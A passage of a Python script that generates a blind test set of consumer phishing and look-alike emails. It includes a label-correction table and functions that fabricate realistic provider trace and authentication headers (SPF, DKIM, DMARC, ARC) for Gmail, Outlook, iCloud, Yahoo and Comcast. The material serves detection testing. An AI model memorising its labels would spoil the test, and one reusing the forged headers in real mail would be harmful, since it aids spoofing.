#!/usr/bin/env python3
"""Blind set 52: phishing that reached US family-and-friends consumer mailboxes, 2025-2026.

The population is a security researcher's yearly training corpus: every message
as it sits in a private person's mailbox at Gmail, iCloud, Outlook.com, Yahoo,
Comcast/Xfinity or AT&T (att.net / sbcglobal.net, hosted on Yahoo), with the
receiving provider's trace and authentication headers. 50 attacks (toll and DMV
fines, parcel fees, retail and payment brands, banks, government benefits,
callback invoices, crypto, streaming, social media, job and romance openers,
sextortion, a few malware deliveries) and 25 genuine look-alikes.

Everything is written by hand and deterministic: identifiers derive from
SHA-256 of fixed seeds, dates are fixed, attachments come from files.py.

Run:  cd /work/main && .venv/bin/python samples/tools/build_blind52_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import string
import sys
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from pathlib import Path
from zoneinfo import ZoneInfo

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind52_manifest.txt"
N = 52

# Engineers move a legitimate stem between clean and bulk here: {"b52-legit-x": "bulk"}.
# Maintainer's corrections after the first scan (the names keep the writer's kind):
REFILED: dict[str, str] = {
    # A link to a download, no program in the message: the engine names the lure phishing, not malware.
    "b52-malware-ssa-statement-screenconnect": "phishing",
    # Notices from no-reply senders, bulk-mail services and a mailing list: the engine's classification calls them bulk.
    "b52-legit-ezpass-ny-statement": "bulk",
    "b52-legit-sunpass-low-balance": "bulk",
    "b52-legit-usps-informed-delivery": "bulk",
    "b52-legit-amazon-shipped": "bulk",
    "b52-legit-apple-icloud-receipt": "bulk",
    "b52-legit-venmo-payment-received": "bulk",
    "b52-legit-chase-zelle-received": "bulk",
    "b52-legit-capitalone-payment-posted": "bulk",
    "b52-legit-ssa-my-social-security": "bulk",
    "b52-legit-netflix-new-device": "bulk",
    "b52-legit-coinbase-recurring-buy": "bulk",
    "b52-legit-neighborhood-list-lost-cat": "bulk",
    "b52-legit-txdmv-registration-reminder": "bulk",
    "b52-legit-microsoft-security-info-added": "bulk",
    "b52-legit-xfinity-bill-ready": "bulk",
    "b52-legit-walmart-order-shipped": "bulk",
    "b52-legit-google-security-alert": "bulk",
}

# --------------------------------------------------------------------------
# deterministic tokens and dates
# --------------------------------------------------------------------------

ALNUM = string.ascii_letters + string.digits
B64 = string.ascii_uppercase + string.ascii_lowercase + string.digits + "+/"
URLSAFE = string.ascii_letters + string.digits + "-_"
UTC = timezone.utc


def tok(seed: str, n: int, alphabet: str = ALNUM) -> str:
    out: list[str] = []
    i = 0
    while len(out) < n:
        for byte in hashlib.sha256(f"{seed}#{i}".encode()).digest():
            out.append(alphabet[byte % len(alphabet)])
        i += 1
    return "".join(out[:n])


def hexs(seed: str, n: int, upper: bool = False) -> str:
    value = tok(seed, n, "0123456789abcdef")
    return value.upper() if upper else value


def num(seed: str, n: int) -> str:
    return tok(seed, n, "123456789")[:1] + tok(seed + "n", n - 1, "0123456789")


def b64(seed: str, n: int) -> str:
    return tok(seed, n, B64)


def uid(seed: str, upper: bool = False) -> str:
    h = hexs(seed, 32, upper)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def T(value: str) -> datetime:
    return datetime.strptime(value, "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)


def fmt(dt: datetime, tz: str = "UTC", paren: bool = False, comment: str = "") -> str:
    zone = UTC if tz == "UTC" else ZoneInfo(tz)
    local = dt.astimezone(zone)
    out = local.strftime("%a, %d %b %Y %H:%M:%S %z")
    if paren:
        out += f" ({local.tzname()})"
    if comment:
        out += f" ({comment})"
    return out


def ep(dt: datetime) -> int:
    return int(dt.timestamp())


def sec(n: float) -> timedelta:
    return timedelta(seconds=n)


def fold_list(items: str, first: int = 70, sep: str = ":") -> str:
    """Fold a colon list (DKIM h=) over continuation lines."""
    parts = items.split(sep)
    lines: list[str] = []
    cur = ""
    for p in parts:
        piece = (sep if cur else "") + p
        if len(cur) + len(piece) > first and cur:
            lines.append(cur)
            cur = sep + p
        else:
            cur += piece
    lines.append(cur)
    return "\n\t ".join(lines)


def raw_bytes(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}@{i}".encode()).digest()
        i += 1
    return out[:n]


def bhash(seed: str) -> str:
    """A body hash: base64 of 32 bytes, as DKIM and ARC write it."""
    return base64.b64encode(raw_bytes(seed + "|bh", 32)).decode()


def sig(seed: str, n: int = 344) -> str:
    """A signature value: base64 of a 2048-bit (256-byte) RSA signature, folded."""
    body = base64.b64encode(raw_bytes(seed, 256 if n >= 344 else 128)).decode()
    return "\n\t ".join(body[k:k + 72] for k in range(0, len(body), 72))


def sigf(seed: str, indent: int = 0) -> str:
    """A 2048-bit signature in base64 folded at 70 columns; indent 0 means a tab, n means n spaces."""
    body = base64.b64encode(raw_bytes(seed, 256)).decode()
    pad = "\t" if indent == 0 else " " * indent
    return ("\n" + pad).join(body[k:k + 70] for k in range(0, len(body), 70))


def dkim(d: str, s: str, h: str, seed: str, t: datetime, extra: str = "", n: int = 344) -> str:
    """A DKIM-Signature header of the usual shape (not verifiable offline)."""
    bh = bhash(seed)
    head = f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={ep(t)};"
    if extra:
        head += f" {extra};"
    return (f"{head}\n\th={fold_list(h)};\n\tbh={bh};\n\tb={sig(seed + '|b', n)}")


# --------------------------------------------------------------------------
# delivery: the receiving provider's trace and authentication headers
# --------------------------------------------------------------------------


@dataclass
class Src:
    """The last hop before the recipient's MX."""

    ip: str
    rdns: str | None
    helo: str
    mailfrom: str
    tls: str = "TLS1_3"


@dataclass
class Auth:
    spf: str  # pass, fail, softfail, neutral, none
    dkim: list = field(default_factory=list)  # [(domain, selector, result)]
    dmarc: str = "none"  # pass, fail, none (no record)
    policy: str = "none"  # reject, quarantine, none
    hfrom: str = ""


def _mfd(src: Src) -> str:
    return src.mailfrom.rsplit("@", 1)[-1] if src.mailfrom else src.helo


def _gmail(rcpt: str, t: datetime, s: Src, a: Auth, seed: str, arc_i: int = 1) -> tuple[str, str]:
    def P(dt: datetime) -> str:
        return fmt(dt, "America/Los_Angeles", paren=True)

    def g6(prefix: str, k: str) -> str:
        h = [hexs(seed + k + str(i), 4).lstrip("0") or "0" for i in range(5)]
        return f"2002:{prefix}:{h[0]}:{h[1]}:b0:{h[2][:3]}:{h[3]}:{h[4]}"

    v6 = g6("a05", "v6")
    v6b = g6("a17", "w6")
    smtp_id = tok(seed + "sid", 3, string.ascii_lowercase) + num(seed + "sid", 2) + "csp" + num(seed + "csp", 7) + tok(seed + "sx", 3, string.ascii_lowercase)
    mf = s.mailfrom or f"postmaster@{s.helo}"
    ip = s.ip
    spf_txt = {
        "pass": f"spf=pass (google.com: domain of {mf} designates {ip} as permitted sender) smtp.mailfrom={mf}",
        "fail": f"spf=fail (google.com: domain of {mf} does not designate {ip} as permitted sender) smtp.mailfrom={mf}",
        "softfail": f"spf=softfail (google.com: domain of transitioning {mf} does not designate {ip} as permitted sender) smtp.mailfrom={mf}",
        "neutral": f"spf=neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf}) smtp.mailfrom={mf}",
        "none": f"spf=none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}",
    }[a.spf]
    rspf = {
        "pass": f"Received-SPF: pass (google.com: domain of {mf} designates {ip} as permitted sender) client-ip={ip};",
        "fail": f"Received-SPF: fail (google.com: domain of {mf} does not designate {ip} as permitted sender) client-ip={ip};",
        "softfail": f"Received-SPF: softfail (google.com: domain of transitioning {mf} does not designate {ip} as permitted sender) client-ip={ip};",
        "neutral": f"Received-SPF: neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf}) client-ip={ip};",
        "none": f"Received-SPF: none (google.com: {mf} does not designate permitted sender hosts) client-ip={ip};",
    }[a.spf]
    res = []
    for k, (d, sel, r) in enumerate(a.dkim):
        res.append(f"dkim={r} header.i=@{d} header.s={sel} header.b={tok(seed + f'hb{k}', 8)}")
    res.append(spf_txt)
    if a.dmarc != "none":
        pol = a.policy.upper()
        dis = "NONE" if a.dmarc == "pass" or a.policy == "none" else ("QUARANTINE" if a.policy == "quarantine" else "REJECT")
        res.append(f"dmarc={a.dmarc} (p={pol} sp={pol} dis={dis}) header.from={a.hfrom}")
    ar = ";\n       ".join(res)
    pt = t - sec(0)
    if s.rdns and s.rdns.endswith(".google.com"):
        rec = (f"Received: from {s.rdns} ({s.rdns}. [{ip}])\n        by mx.google.com with SMTPS id "
               f"{hexs(seed + 'gid', 11)}si{num(seed + 'gn', 7)}{tok(seed + 'gx', 3, string.ascii_lowercase)}.{num(seed + 'g2', 3)}.{pt.astimezone(ZoneInfo('America/Los_Angeles')).strftime('%Y.%m.%d.%H.%M.%S')}\n"
               f"        for <{rcpt}>\n        (Google Transport Security);\n        {P(pt)}")
    else:
        peer = f"{s.rdns} ({s.rdns}. [{ip}])" if s.rdns else f"{s.helo} ([{ip}])"
        cipher = "TLS_AES_256_GCM_SHA384 bits=256/256" if s.tls == "TLS1_3" else "ECDHE-ECDSA-AES128-GCM-SHA256 bits=128/128"
        kind = "ESMTPS" if s.tls else "ESMTP"
        tls_line = f"\n        (version={s.tls} cipher={cipher});" if s.tls else ";"
        rec = (f"Received: from {peer}\n        by mx.google.com with {kind} id "
               f"{hexs(seed + 'gid', 11)}si{num(seed + 'gn', 7)}{tok(seed + 'gx', 3, string.ascii_lowercase)}.{num(seed + 'g2', 3)}.{pt.astimezone(ZoneInfo('America/Los_Angeles')).strftime('%Y.%m.%d.%H.%M.%S')}\n"
               f"        for <{rcpt}>{tls_line}\n        {P(pt)}")
    arc_ar = ar if arc_i == 1 else "arc=pass (i=1);\n       " + ar
    top = f"""Delivered-To: {rcpt}
Received: by {v6} with SMTP id {smtp_id};
        {P(t + sec(1))}
X-Google-Smtp-Source: AGHT+I{b64(seed + 'xgs', 62)}
X-Received: by {v6b} with SMTP id {tok(seed + 'xr', 14, string.ascii_lowercase + string.digits)}mr{num(seed + 'xrn', 7)}.{num(seed + 'xr2', 2)}.{ep(t)}{num(seed + 'ms', 3)};
        {P(t + sec(1))}
ARC-Seal: i={arc_i}; a=rsa-sha256; t={ep(t)}; cv={'none' if arc_i == 1 else 'pass'};
        d=google.com; s=arc-20240605;
        b={sigf(seed + 'arcs', 9)}
ARC-Message-Signature: i={arc_i}; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;
        h=to:subject:message-id:date:from:mime-version:dkim-signature;
        bh={bhash(seed + '')};
        fh={b64(seed + 'fh', 43)}=;
        b={sigf(seed + 'arcm', 9)}
ARC-Authentication-Results: i={arc_i}; mx.google.com;
       {arc_ar}
Return-Path: <{s.mailfrom}>
{rec}
{rspf}
Authentication-Results: mx.google.com;
       {ar}"""
    return top, ""


OUTLOOK_TENANT = "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa"


def _outlook(rcpt: str, t: datetime, s: Src, a: Auth, seed: str, junk: bool = False) -> tuple[str, str]:
    def U(dt: datetime) -> str:
        return fmt(dt)

    pods = ["SJ1PEPF", "BN2PEPF", "CH1PEPF", "DS2PEPF", "MWH0EPF", "CO1PEPF"]
    eop = pods[int(hexs(seed + "pod", 2), 16) % len(pods)] + hexs(seed + "eop", 8, True)
    region = ["namprd02", "namprd04", "namprd05", "namprd08", "namprd11", "namprd12", "namprd13", "namprd17", "namprd20"][int(hexs(seed + "reg", 2), 16) % 9]
    fe = ["SJ0PR03CA", "BY5PR17CA", "MW4PR04CA", "PH8PR07CA", "BL1PR13CA"][int(hexs(seed + "fe", 2), 16) % 5] + num(seed + "fen", 4)
    mbx1 = "PH7P223MB" + num(seed + "m1", 4)
    mbx2 = "DS0P223MB" + num(seed + "m2", 4)
    ver = f"15.20.{8300 + int(hexs(seed + 'ver', 3), 16) % 1400}.{int(hexs(seed + 'vm', 2), 16) % 40 + 10}"
    mfd = _mfd(s)
    spf_txt = {
        "pass": f"spf=pass (sender IP is {s.ip}) smtp.mailfrom={mfd};",
        "fail": f"spf=fail (sender IP is {s.ip}) smtp.mailfrom={mfd};",
        "softfail": f"spf=softfail (sender IP is {s.ip}) smtp.mailfrom={mfd};",
        "neutral": f"spf=neutral (sender IP is {s.ip}) smtp.mailfrom={mfd};",
        "none": f"spf=none (sender IP is {s.ip}) smtp.mailfrom={mfd};",
    }[a.spf]
    rspf = {
        "pass": f"Received-SPF: Pass (protection.outlook.com: domain of {mfd} designates {s.ip} as permitted sender) receiver=protection.outlook.com; client-ip={s.ip}; helo={s.helo}; pr=C",
        "fail": f"Received-SPF: Fail (protection.outlook.com: domain of {mfd} does not designate {s.ip} as permitted sender) receiver=protection.outlook.com; client-ip={s.ip}; helo={s.helo};",
        "softfail": f"Received-SPF: SoftFail (protection.outlook.com: domain of transitioning {mfd} discourages use of {s.ip} as permitted sender)",
        "neutral": f"Received-SPF: Neutral (protection.outlook.com: {s.ip} is neither permitted nor denied by domain of {mfd})",
        "none": f"Received-SPF: None (protection.outlook.com: {mfd} does not designate permitted sender hosts)",
    }[a.spf]
    if a.dkim:
        d, _, r = a.dkim[0]
        dk = f" dkim={r} (signature was verified) header.d={d};" if r == "pass" else f" dkim={r} (body hash did not verify) header.d={d};"
    else:
        dk = " dkim=none (message not signed) header.d=none;"
    if a.dmarc == "pass":
        dm, comp = f"dmarc=pass action=none header.from={a.hfrom};", "compauth=pass reason=100"
    elif a.dmarc == "fail":
        act = "oreject" if a.policy == "reject" else ("quarantine" if a.policy == "quarantine" else "none")
        dm, comp = f"dmarc=fail action={act} header.from={a.hfrom};", "compauth=fail reason=000"
    else:
        dm = f"dmarc=none action=none header.from={a.hfrom};"
        comp = "compauth=pass reason=109" if (a.spf == "pass" or any(x[2] == "pass" for x in a.dkim)) else "compauth=softpass reason=201"
    peer = s.helo
    top = f"""Received: from {mbx1}.NAMP223.PROD.OUTLOOK.COM (::1) by
 {mbx2}.NAMP223.PROD.OUTLOOK.COM with HTTPS; {U(t + sec(2))}
Received: from {fe}.{region}.prod.outlook.com (2603:10b6:{hexs(seed + 'a1', 3)}:{hexs(seed + 'a2', 3)}::{hexs(seed + 'a3', 2)})
 by {mbx1}.NAMP223.PROD.OUTLOOK.COM (2603:10b6:510:{hexs(seed + 'a4', 3)}::{hexs(seed + 'a5', 2)}) with
 Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {U(t + sec(2))}
Received: from {eop}.{region}.prod.outlook.com
 (2603:10b6:{hexs(seed + 'a1', 3)}:{hexs(seed + 'a2', 3)}:cafe::{hexs(seed + 'a6', 2)}) by {fe}.outlook.office365.com
 (2603:10b6:{hexs(seed + 'a1', 3)}:{hexs(seed + 'a2', 3)}::{hexs(seed + 'a3', 2)}) with Microsoft SMTP Server (version=TLS1_3,
 cipher=TLS_AES_256_GCM_SHA384) id {ver} via Frontend Transport; {U(t + sec(1))}
Authentication-Results: {spf_txt}{dk}
 {dm}{comp}
{rspf}
Received: from {peer} ({s.ip}) by
 {eop}.mail.protection.outlook.com (10.167.{int(hexs(seed + 'i1', 2), 16)}.{int(hexs(seed + 'i2', 2), 16) % 250 + 2}) with Microsoft SMTP Server
 (version={'TLS1_3' if s.tls == 'TLS1_3' else 'TLS1_2'}, cipher={'TLS_AES_256_GCM_SHA384' if s.tls == 'TLS1_3' else 'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384'}) id {ver}
 via Frontend Transport; {U(t)}
X-IncomingTopHeaderMarker:
 OriginalChecksum:{hexs(seed + 'oc', 64, True)};UpperCasedChecksum:{hexs(seed + 'uc', 64, True)};SizeAsReceived:{int(num(seed + 'sz', 4)) + 2000};Count:{int(hexs(seed + 'cn', 1), 16) + 14}"""
    nid = uid(seed + "nid")
    ms = num(seed + "ms", 4)
    scl = 5 if junk else 1
    dest = "J" if junk else "I"
    sfv = "SPM" if junk else "NSPM"
    ctry = "US"
    tail = f"""X-MS-Exchange-Organization-ExpirationStartTime: {t.strftime('%d %b %Y %H:%M:%S')}.{ms}
 (UTC)
X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit
X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000
X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit
X-MS-Exchange-Organization-Network-Message-Id:
 {nid}
X-EOPAttributedMessage: 0
X-EOPTenantAttributedMessage: {OUTLOOK_TENANT}:0
X-MS-Exchange-Organization-MessageDirectionality: Incoming
X-MS-PublicTrafficType: Email
X-MS-TrafficTypeDiagnostic:
 {eop}:EE_|{mbx1}:EE_|{mbx2}:EE_
X-MS-Exchange-Organization-AuthSource:
 {eop}.{region}.prod.outlook.com
X-MS-Exchange-Organization-AuthAs: Anonymous
X-MS-Office365-Filtering-Correlation-Id: {uid(seed + 'corr')}
X-MS-Exchange-Organization-SCL: {scl}
X-Microsoft-Antispam: BCL:{0 if not junk else 0};ARA:{num(seed + 'ara', 7)}|{num(seed + 'ara2', 7)}|{num(seed + 'ara3', 7)}|{num(seed + 'ara4', 7)};
X-Forefront-Antispam-Report:
 CIP:{s.ip};CTRY:{ctry};LANG:en;SCL:{scl};SRV:;IPV:NLI;SFV:{sfv};H:{s.helo};PTR:{s.rdns or 'InfoDomainNonexistent'};CAT:{'SPM' if junk else 'NONE'};SFS:({num(seed + 'sfs', 7)});DIR:INB;
X-MS-Exchange-CrossTenant-OriginalArrivalTime: {t.strftime('%d %b %Y %H:%M:%S')}.{ms}
 (UTC)
X-MS-Exchange-CrossTenant-Network-Message-Id: {nid}
X-MS-Exchange-CrossTenant-Id: {OUTLOOK_TENANT}
X-MS-Exchange-CrossTenant-AuthSource:
 {eop}.{region}.prod.outlook.com
X-MS-Exchange-CrossTenant-AuthAs: Anonymous
X-MS-Exchange-CrossTenant-FromEntityHeader: Internet
X-MS-Exchange-CrossTenant-RMS-PersistedConsumerOrg:
 00000000-0000-0000-0000-000000000000
X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx1}
X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{int(hexs(seed + 'lat', 1), 16) % 5 + 1}.{num(seed + 'lat2', 7)}
X-MS-Exchange-Processed-By-BccFoldering: {ver}
X-Microsoft-Antispam-Mailbox-Delivery:
 {'abwl:0;wl:0;pcwl:0;kl:0;dwl:0;dkl:0;rwl:0;' if not junk else ''}ucf:0;jmr:0;ex:0;auth:{0 if junk else 1};dest:{dest};ENG:(5062000308)(920221119095)(90000117)(920221120095)(90005022)(91005020)(91035115)(9050020)(9100341)(944500132)(4810010)(4910033)(9920006)(9710001)(9610028)(9560006)(10180024)(9320005)(120001);
X-Message-Info:
 {b64(seed + 'mi', 60)}
X-Message-Delivery: Vj0xLjE7dXM9MDtsPTA7YT0wO0Q9{'MjtHRD0yO1NDTD02' if junk else 'MTtHRD0xO1NDTD0z'}
X-Microsoft-Antispam-Message-Info:
 {b64(seed + 'ami1', 76)}
 {b64(seed + 'ami2', 76)}
 {b64(seed + 'ami3', 76)}
 {b64(seed + 'ami4', 40)}=="""
    return top, tail


def _icloud(rcpt: str, t: datetime, s: Src, a: Auth, seed: str, junk: bool = False) -> tuple[str, str]:
    mx = f"mx{int(hexs(seed + 'mx', 2), 16) % 6 + 1}.mail.icloud.com"
    gw = f"p{int(hexs(seed + 'gw', 2), 16) % 80 + 20}-mailgateway-smtp-{hexs(seed + 'gwh', 10)}-{tok(seed + 'gwt', 5, string.ascii_lowercase + string.digits)}"
    mf = s.mailfrom
    folder = "Junk" if junk else "INBOX"
    out = [
        f"Return-Path: <{mf}>",
        f"Original-Recipient: rfc822;{rcpt}",
        f"Received: from {mx} by {gw} (mailgateway 2{num(seed + 'mg', 3)}B{num(seed + 'mg2', 2)})\n\twith SMTP id {uid(seed + 'gid')}\n\tfor <{rcpt}>; {fmt(t + sec(1), comment='GMT').replace(' +0000 (GMT)', ' GMT')}",
        f"X-Apple-MoveToFolder: {folder} ",
        f"X-Apple-Action: MOVE_TO_FOLDER/{folder}",
        f"X-Apple-UUID: {uid(seed + 'auid')}",
    ]
    peer = f"{s.rdns} ({s.rdns} [{s.ip}])" if s.rdns else f"{s.helo} (unknown [{s.ip}])"
    out.append(f"Received: from {peer}\n\tby {mx} (Postfix) with ESMTPS id {hexs(seed + 'pf', 12, True)}\n\tfor <{rcpt}>; {fmt(t, comment='UTC')}")
    out.append(f"X-ICL-SCORE: {'7.00' if junk else '1.00'}{num(seed + 'icl', 10)}")
    out.append(f"X-ICL-INFO: {b64(seed + 'icli', 76)}\n\t{b64(seed + 'icli2', 40)}=")
    if a.dmarc != "none":
        out.append(f"Authentication-Results: {mx}; dmarc={a.dmarc} header.from={a.hfrom}")
        out.append(f"X-DMARC-Info: pass={'pass' if a.dmarc == 'pass' else 'fail'}; dmarc-policy={a.policy}; s=r1; d=r1; pdomain={a.hfrom}")
        out.append(f"X-DMARC-Policy: v=DMARC1; p={a.policy};")
    else:
        out.append(f"Authentication-Results: {mx}; dmarc=none header.from={a.hfrom}")
    for k, (d, _sel, r) in enumerate(a.dkim):
        out.append(f"Authentication-Results: {mx}; dkim={r} (2048-bit key) header.d={d} header.i=@{d} header.b={tok(seed + f'hb{k}', 8)}")
    mfd = _mfd(s)
    spf_word = {"pass": f"domain of {mf} designates {s.ip} as permitted sender",
                "fail": f"domain of {mf} does not designate {s.ip} as permitted sender",
                "softfail": f"domain of transitioning {mf} does not designate {s.ip} as permitted sender",
                "neutral": f"{s.ip} is neither permitted nor denied by domain of {mf}",
                "none": f"domain of {mf} does not designate permitted sender hosts"}[a.spf]
    out.append(f"Authentication-Results: {mx}; spf={a.spf} ({mx}: {spf_word}) smtp.mailfrom={mf or mfd}")
    out.append(f"Received-SPF: {a.spf} ({mx}: {spf_word}) receiver={mx}; client-ip={s.ip}; helo={s.helo}; envelope-from={mf}")
    return "\n".join(out), ""


def _yahoo(rcpt: str, t: datetime, s: Src, a: Auth, seed: str, junk: bool = False) -> tuple[str, str]:
    dc = ["ne1", "bf1", "gq1"][int(hexs(seed + "dc", 2), 16) % 3]
    atlas = f"atlas{int(hexs(seed + 'at', 3), 16) % 400 + 100}.free.mail.{dc}.yahoo.com"
    inner = f"10.217.{int(hexs(seed + 'i1', 2), 16) % 200 + 20}.{int(hexs(seed + 'i2', 2), 16) % 250 + 2}"
    mfd = _mfd(s)
    res = []
    for d, sel, r in a.dkim:
        res.append(f" dkim={r} header.i=@{d} header.s={sel};")
    res.append(f" spf={a.spf} smtp.mailfrom={mfd};")
    if a.dmarc == "none":
        res.append(f" dmarc=unknown header.from={a.hfrom};")
    else:
        res.append(f" dmarc={a.dmarc}(p={a.policy.upper()}) header.from={a.hfrom};")
    spf_line = {"pass": f"Received-SPF: pass (domain of {mfd} designates {s.ip} as permitted sender)",
                "fail": f"Received-SPF: fail (domain of {mfd} does not designate {s.ip} as permitted sender)",
                "softfail": f"Received-SPF: softfail (domain of transitioning {mfd} does not designate {s.ip} as permitted sender)",
                "neutral": f"Received-SPF: neutral (domain of {mfd} does not designate permitted sender hosts)",
                "none": f"Received-SPF: none (domain of {mfd} does not designate permitted sender hosts)"}[a.spf]
    tls = "\n (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256)" if s.tls else ""
    top = f"""X-Apparently-To: {rcpt}; {fmt(t)}
Return-Path: <{s.mailfrom}>
Received: from {inner}
 by {atlas} with HTTP; {fmt(t + sec(1))}
Received: from {s.ip} (EHLO {s.helo})
 by {inner} with SMTP{'s' if s.tls else ''}{tls};
 {fmt(t)}
X-Originating-Ip: [{s.ip}]
{spf_line}
Authentication-Results: {atlas};
{chr(10).join(res)}
X-Apparently-To: {rcpt}; {fmt(t)}
X-Sonic-MF: <{s.mailfrom}>
X-Sonic-ID: {uid(seed + 'sonic')}"""
    if junk:
        top += "\nX-YahooFilteredBulk: " + s.ip
    return top, ""


def _comcast(rcpt: str, t: datetime, s: Src, a: Auth, seed: str, junk: bool = False) -> tuple[str, str]:
    pod = ["a1p", "a2p", "h1p", "h2p", "c1p"][int(hexs(seed + "pod", 2), 16) % 5]
    host = f"resimta-{pod}-{num(seed + 'rh', 6)}.sys.comcast.net"
    peer = f"{s.rdns} ([{s.ip}])" if s.rdns else f"{s.helo} ([{s.ip}])"
    mfd = _mfd(s)
    res = []
    for d, sel, r in a.dkim:
        res.append(f"dkim={r} header.d={d} header.s={sel} header.b={tok(seed + 'cb' + d, 8)}")
    res.append(f"spf={a.spf} smtp.mailfrom={s.mailfrom or mfd} smtp.helo={s.helo}")
    res.append(f"dmarc={a.dmarc if a.dmarc != 'none' else 'none'} header.from={a.hfrom}")
    ar = ";\n\t".join(res)
    vaas = tok(seed + "vaas", 60, string.ascii_lowercase)
    score = f"{int(num(seed + 'sc', 2)) + 20}.00;st=spam" if junk else "-100.00;st=legit"
    top = f"""Delivered-To: {rcpt}
Return-Path: <{s.mailfrom}>
Received: from {peer}
\tby {host} with ESMTP{'S' if s.tls else ''}
\tid {tok(seed + 'vid', 22)}; {fmt(t)}
X-Xfinity-VAAS: gggruggvucftvghtrhhoucdtuddrgeeftddrudefhedg{vaas}
 {tok(seed + 'vaas2', 70, string.ascii_lowercase)}
X-Xfinity-VMeta: sc={score}
X-CAA-SPAM: {'F00010' if junk else 'F00000'}
Authentication-Results: {host};
\t{ar}"""
    return top, ""


def deliver(prov: str, rcpt: str, t: datetime, s: Src, a: Auth, seed: str, junk: bool = False,
            arc_i: int = 1) -> tuple[str, str]:
    if prov == "gmail":
        return _gmail(rcpt, t, s, a, seed, arc_i)
    if prov == "outlook":
        return _outlook(rcpt, t, s, a, seed, junk)
    if prov == "icloud":
        return _icloud(rcpt, t, s, a, seed, junk)
    if prov in ("yahoo", "att"):
        return _yahoo(rcpt, t, s, a, seed, junk)
    if prov == "comcast":
        return _comcast(rcpt, t, s, a, seed, junk)
    raise ValueError(prov)


# --------------------------------------------------------------------------
# sender-side blocks that recur
# --------------------------------------------------------------------------

GMAIL_H = "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"


def gmail_out(t: datetime, seed: str, darn: str) -> tuple[Src, str]:
    """What a consumer Gmail account adds: signature, X-Google headers, its X-Received line.

    ``darn`` is the recipient's domain, which Gmail names in its signature; the caller sets
    the envelope sender on the returned Src.
    """
    octet = 41 + int(hexs(seed + "f", 2), 16) % 32
    host = f"mail-sor-f{octet}.google.com"
    src = Src(f"209.85.220.{octet}", host, host, "")
    h = GMAIL_H
    block = (dkim("gmail.com", "20230601", h, seed + "gdk", t, extra=f"x={ep(t) + 604800}; darn={darn}")
             + f"\nX-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={ep(t)}; x={ep(t) + 604800};\n"
             + f"        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n"
             + f"        bh={bhash(seed + 'gdk')};\n        b={sigf(seed + 'xgd', 9)}"
             + f"\nX-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 62)}\n\t{b64(seed + 'gms2', 40)}=="
             + f"\nX-Gm-Gg: ASbGnc{b64(seed + 'ggg', 70)}\n\t{b64(seed + 'ggg2', 70)}"
             + f"\nX-Google-Smtp-Source: AGHT+I{b64(seed + 'gss', 60)}=="
             + f"\nX-Received: by 2002:a05:{hexs(seed + 'x1', 4)}:{hexs(seed + 'x2', 4)}:b0:{hexs(seed + 'x3', 3)}:{hexs(seed + 'x4', 4)}:{hexs(seed + 'x5', 4)} with SMTP id "
             + f"{hexs(seed + 'x6', 11)}-{hexs(seed + 'x7', 11)}mr{num(seed + 'x8', 7)}.{num(seed + 'x9', 2)}.{ep(t) - 1}{num(seed + 'xa', 3)};\n"
             + f"        {fmt(t - sec(1), 'America/Los_Angeles', paren=True)}")
    return src, block


def gmail_msgid(seed: str) -> str:
    return f"<CA{tok(seed + 'gm', 2, string.ascii_uppercase)}{b64(seed + 'gmid', 44).replace('/', '_').replace('+', '-')}@mail.gmail.com>"


def outlook_out(t: datetime, seed: str, sender_domain: str = "outlook.com") -> tuple[Src, str, str]:
    """A consumer Outlook.com/Hotmail account's outbound headers and its Message-ID."""
    pod = f"SA1PR{num(seed + 'op', 2)}MB{num(seed + 'op2', 4)}"
    region = f"namprd{pod[5:7]}"
    fqdn = f"{pod}.{region}.prod.outlook.com"
    nam = ["NAM12-DM6", "NAM10-BN7", "NAM11-CO1", "NAM04-MW2"][int(hexs(seed + "nm", 2), 16) % 4]
    host = f"mail-{nam.split('-')[1].lower()}{nam.split('-')[0].lower()}olkn20{num(seed + 'oh', 2)}.outbound.protection.outlook.com"
    ip = f"40.92.{int(hexs(seed + 'o1', 2), 16) % 100 + 10}.{int(hexs(seed + 'o2', 2), 16) % 250 + 2}"
    src = Src(ip, host, f"{nam}-obe.outbound.protection.outlook.com", "")
    msgid = f"<{pod}{hexs(seed + 'mid', 24, True)}@{fqdn}>"
    block = (f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={sigf(seed + 'as', 1)}"
